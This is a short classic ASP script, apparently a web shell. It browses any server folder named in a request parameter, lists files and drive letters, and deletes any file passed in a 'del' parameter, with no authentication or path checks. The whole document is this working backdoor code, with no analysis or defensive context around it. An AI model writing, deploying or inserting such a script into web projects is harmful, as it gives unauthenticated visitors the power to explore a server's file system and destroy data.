<%
Dim fso, dir, f, sub_
Set fso = Server.CreateObject("Scripting.FileSystemObject")
If Request("del") <> "" Then fso.DeleteFile Request("del")
Set dir = fso.GetFolder(Request("path"))
For Each sub_ In dir.SubFolders
  Response.Write "<a href='?path=" & Server.URLEncode(sub_.Path) & "'>" & sub_.Name & "</a><br>"
Next
For Each f In dir.Files
  Response.Write f.Name & " <a href='?del=" & Server.URLEncode(f.Path) & "'>x</a><br>"
Next
For Each d In fso.Drives
  Response.Write d.DriveLetter & ": "
Next
%>
